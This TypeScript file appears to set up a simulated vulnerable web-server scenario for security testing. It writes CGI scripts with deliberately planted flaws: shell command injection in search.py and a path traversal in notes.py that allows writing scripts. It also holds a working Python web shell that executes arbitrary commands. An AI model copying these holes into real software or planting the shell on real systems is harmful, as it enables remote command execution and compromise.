// The CGI scripts of the python-http scenario's site (cgi-bin/, run by http.server's CGIHTTPRequestHandler, which
// forks and execs each script): `search.py` counts the documents holding a word with grep through a shell (the
// planted bug: the word goes into the shell command inside single quotes, unescaped), `stats.py` counts lines and
// words of a document in pure Python, `notes.py` stores and lists uploaded notes (the planted bug: the note's name
// is joined to the upload folder unchecked, so "../cgi-bin/x.py" writes a script), and `hello.py`, the sample script
// a default install leaves behind, which normal traffic never requests.

import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";

const HEAD = `#!/usr/bin/python3
import os, sys, urllib.parse
q = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
def arg(name, default=""):
    return q.get(name, [default])[0]
`;

export const CGI_SCRIPTS: Record<string, string> = {
  "search.py": `${HEAD}import subprocess
word = arg("q")
r = subprocess.run("grep -ril '" + word + "' docs blog | wc -l", shell=True, capture_output=True, text=True)
print("Content-Type: text/plain\\n")
print("matches", r.stdout.strip())
`,
  "stats.py": `${HEAD}name = os.path.normpath(arg("file", "docs/manual.txt"))
print("Content-Type: text/plain\\n")
if not name.startswith(("docs/", "blog/")) or not os.path.isfile(name):
    print("error no such document")
else:
    with open(name, encoding="utf-8") as f:
        text = f.read()
    print("lines", text.count("\\n"), "words", len(text.split()), "bytes", len(text.encode()))
`,
  "notes.py": `${HEAD}folder = "uploads"
name = arg("name")
print("Content-Type: text/plain\\n")
if os.environ.get("REQUEST_METHOD") == "POST":
    data = sys.stdin.read(int(os.environ.get("CONTENT_LENGTH") or 0))
    with open(os.path.join(folder, name), "w") as f:
        f.write(data)
    print("saved", len(data))
elif name:
    with open(os.path.join(folder, os.path.basename(name))) as f:
        sys.stdout.write(f.read())
else:
    print("notes", " ".join(sorted(os.listdir(folder))))
`,
  "hello.py": `#!/usr/bin/python3
print("Content-Type: text/plain\\n")
print("Hello from CGI")
`,
};

/** Writes cgi-bin/ (executable scripts), uploads/ (empty) under the site's root. */
export function writeCgi(root: string): void {
  const dir = path.join(root, "cgi-bin");
  mkdirSync(dir, { recursive: true });
  mkdirSync(path.join(root, "uploads"), { recursive: true });
  for (const [name, text] of Object.entries(CGI_SCRIPTS)) {
    const file = path.join(dir, name);
    writeFileSync(file, text);
    chmodSync(file, 0o755);
  }
}

/** The web shell the webshell-upload attack writes over cgi-bin/hello.py. */
export const WEB_SHELL = `#!/usr/bin/python3
import os, subprocess, urllib.parse
cmd = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", "")).get("cmd", ["id"])[0]
print("Content-Type: text/plain\\n")
print(subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout)
`;
